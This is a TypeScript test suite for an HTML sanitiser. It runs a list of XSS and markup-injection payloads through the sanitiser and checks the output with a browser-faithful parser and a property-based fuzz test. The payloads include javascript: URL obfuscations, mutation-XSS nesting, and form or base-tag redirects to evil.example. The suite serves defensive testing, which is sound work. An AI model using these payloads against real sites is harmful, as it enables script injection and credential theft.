import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { describe, test } from 'node:test';
import * as fc from 'fast-check';
import { sanitise } from './sanitise.ts';

/** A parser that follows the HTML standard to the letter, as browsers do: what it sees is what they would see. */
const { createDocument } = createRequire(import.meta.resolve('turndown'))('@mixmark-io/domino') as {
  createDocument(markup: string): Document;
};

const link = /^(?:https?:\/\/|mailto:|\/(?![/\\]))/i;
const attributes: Record<string, Record<string, RegExp>> = {
  a: { href: link, rel: /^nofollow ugc noopener$/, 'data-mention': /^\d+$/ },
  code: { class: /^language-[a-z]+$/ },
  img: { src: /^\/files\/[\w-]+\/[^"]+$/, alt: /^[^]*$/ },
  ol: { start: /^\d+$/ },
};
const plainTags =
  'p h3 h4 h5 ul li blockquote details summary pre strong em s br hr table thead tbody tr th td'.split(' ');
const allowed = new Set([...Object.keys(attributes), ...plainTags]);

/** Throws where the markup, as a browser reads it, holds anything but the allowed set. */
function holdsOnlyWhatIsAllowed(markup: string): void {
  const { body, head } = createDocument(`<!doctype html><html><head></head><body>${markup}</body></html>`);
  assert.equal(head.childNodes.length, 0);
  for (const element of body.querySelectorAll('*')) {
    const tag = element.localName;
    assert.ok(allowed.has(tag), `<${tag}> in ${markup}`);
    assert.equal(element.namespaceURI, 'http://www.w3.org/1999/xhtml');
    for (const { name, value } of Array.from(element.attributes)) {
      assert.match(value, attributes[tag]?.[name] ?? /^(?!)/, `${tag} ${name}="${value}"`);
    }
  }
  assert.equal(spelledOut(body.innerHTML), spelledOut(markup), 'a browser changes nothing when it reads it');
}

const spellings: Record<string, string> = {
  '&quot;': '"',
  '&#39;': "'",
  '&lt;': '<',
  '&gt;': '>',
  '&nbsp;': '\u00A0',
};

/** Markup with characters instead of entities, as there are several ways to spell them. */
const spelledOut = (markup: string) =>
  markup.replaceAll(/&(?:quot|#39|lt|gt|nbsp);/g, (entity) => spellings[entity]!);

const nasty = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/abcdefgh/x.png" onerror="alert(1)" style="position:fixed" class="button" id="main">',
  '<img src="/files/abcdefgh/../../sign-out">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#0;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>1</script>">y</a><a href="file:///etc/passwd">z</a>',
  '<a href="//evil.example/x">x</a><a href="/\\evil.example">y</a><a href="\\\\evil.example">z</a>',
  '<a href="https://ok.example" target="_blank" onclick="x()" ping="https://evil.example" name="body">x</a>',
  '<a data-mention="7&quot; onclick=&quot;x" href="/people/7">@x</a>',
  '<a data-mention="1e3" href="https://evil.example">@Ana</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "//evil.example";</style><link rel=stylesheet href=//evil.example>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=password><button>OK</button></form>',
  '<form id="document"><input name="body"><img name="getElementById" src="/files/abcdefgh/x.png"></form>',
  '<p id="main" name="body" class="notice dialog" slot="x" is="rich-editor">x</p>',
  '<template><script>alert(1)</script></template><rich-editor data-src="//evil.example/x.js"></rich-editor>',
  '<turbo-stream action="append" target="main"><template><b>x</b></template></turbo-stream>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp><plaintext>x',
  '<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]><?php <script>alert(1)</script> ?>',
  '<pre><code class="language-js evil" onmouseover=x>let a</code></pre><code class="x language-xyz">b</code>',
  '<p>a<table><p>b<tr>c<td>d<script>x</script>',
  '<b><p>x<i>y</b>z</i><a href="/x"><div>q<a href="/y">w</a></div></a>',
  '<ul><ul><ul>x</ul></ul>y<li><h1>z<ul><li>w',
  '<ol start="-5" reversed><li value="9">x</ol>',
  '<img alt="</p><script>alert(1)</script>" src="/files/abcdefgh/x.png">',
  '<img src="/files/abcdefgh/x.png?a=<b>">',
  '＜script＞alert(1)＜/script＞ \u2028 \u202E <p>\uFEFF</p>',
  `${'<blockquote>'.repeat(20_000)}deep${'<i><b>'.repeat(20_000)}er`,
  '<a href="/people/7">x</a><a href="/people/7">@Ana</a>',
  '<<p>>a&lt;script&gt;<3 &amp;lt; &notanentity; & &#x110000;',
];

describe('what is stored', () => {
  for (const markup of nasty) {
    test(`holds only what is allowed: ${markup.slice(0, 70)}`, () => {
      const clean = sanitise(markup);
      holdsOnlyWhatIsAllowed(clean);
      assert.equal(sanitise(clean), clean);
    });
  }

  test('holds only what is allowed, whatever is put together, and stays as it is when read again', () => {
    const tags = [
      ...allowed,
      'div',
      'svg',
      'math',
      'style',
      'script',
      'b',
      'span',
      'h1',
      'h6',
      'template',
      'dl',
      'x',
    ];
    const tag = fc.constantFrom(...tags);
    const attribute = fc.constantFrom(
      '', ' href="/x"', ' href="https://example.org/ä?a=1&b=2"', ' href=javascript:1', ' class="language-js"',
      ' src="/files/abcdefgh/a.png" alt="a &lt; b"', ' src=https://example.org/a.png', ' data-mention=7', ' onclick=x',
      ' start=3', ' style="x:y"', ' id=a',
    ); // prettier-ignore
    const piece = fc.oneof(
      fc.tuple(tag, attribute).map(([name, given]) => `<${name}${given}>`),
      tag.map((name) => `</${name}>`),
      fc.constantFrom(
        'a',
        ' ',
        '\n',
        'b c',
        '&nbsp;',
        '&lt;',
        '<',
        '>',
        '"',
        '<!--',
        '-->',
        ']]>',
        '\u200b',
        '@Ana',
      ),
      fc.string({ maxLength: 4 }),
    );
    const property = fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const clean = sanitise(pieces.join(''));
      assert.equal(sanitise(clean), clean);
      holdsOnlyWhatIsAllowed(clean);
    });
    fc.assert(property, { numRuns: 1500 });
  });
});
